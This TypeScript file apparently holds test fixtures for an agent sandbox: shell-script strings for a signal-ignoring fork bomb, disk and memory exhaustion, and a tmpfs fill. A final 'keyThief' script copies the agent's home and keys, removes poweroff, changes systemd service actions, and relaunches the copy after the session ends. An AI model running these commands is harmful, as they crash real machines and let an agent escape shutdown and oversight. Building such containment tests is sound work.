/** Jobs that take all they can get, or more than their share. */

/** Forks without end, and goes on when the agent would have it end. */
export const forkBomb = `echo bombing
bomb() { bomb | bomb & }
trap '' TERM INT
bomb 2>/dev/null
sleep 3600
`;

/** Takes all that its disk has, in pieces that become smaller. */
export const takeDisk = `for size in 512 256 128 64 32 16 8 4 2 1; do
  n=0; while fallocate --length "$size"M "$size-$((n++))" 2>/dev/null; do :; done
done
`;

/** Fills its disk until nothing more can be written. */
export const diskHog = `mkdir ~/hog && cd ~/hog
${takeDisk}cat /dev/zero >rest
`;

/** Takes more memory than there is, all at once: whoever takes it bit by bit has the guest read its programs anew for minutes. */
export const memoryHog = `perl -e '$taken = "x" x (4 << 30)'`;

/** Fills a file system in memory, which no process can be ended for. */
export const memoryDiskHog = `sudo mkdir /mnt/hog
sudo mount -t tmpfs -o size=4g none /mnt/hog
echo filling
sudo bash -c 'cat /dev/zero > /mnt/hog/file'
`;

/**
 * Copies its agent, key and all, keeps the machine from powering off, and runs the copy as soon as the agent has ended.
 * Shows `stolen`, and ends once it finds `/tmp/go`.
 */
export const keyThief = `set -eu
sudo cp --archive /home/agent /home/thief
sudo rm /usr/sbin/poweroff
sudo mkdir -p /run/systemd/system/iap-agent.service.d
printf '[Unit]\\nSuccessAction=none\\nFailureAction=none\\n' | sudo tee /run/systemd/system/iap-agent.service.d/stay.conf
sudo systemctl daemon-reload
sudo systemd-run --quiet --uid agent --gid agent --working-directory /home/thief bash -c 'while pgrep --full -- "[-]-once"; do sleep 0.1; done; exec ./run.sh'
echo stolen
until [ -e /tmp/go ]; do sleep 0.1; done
`;
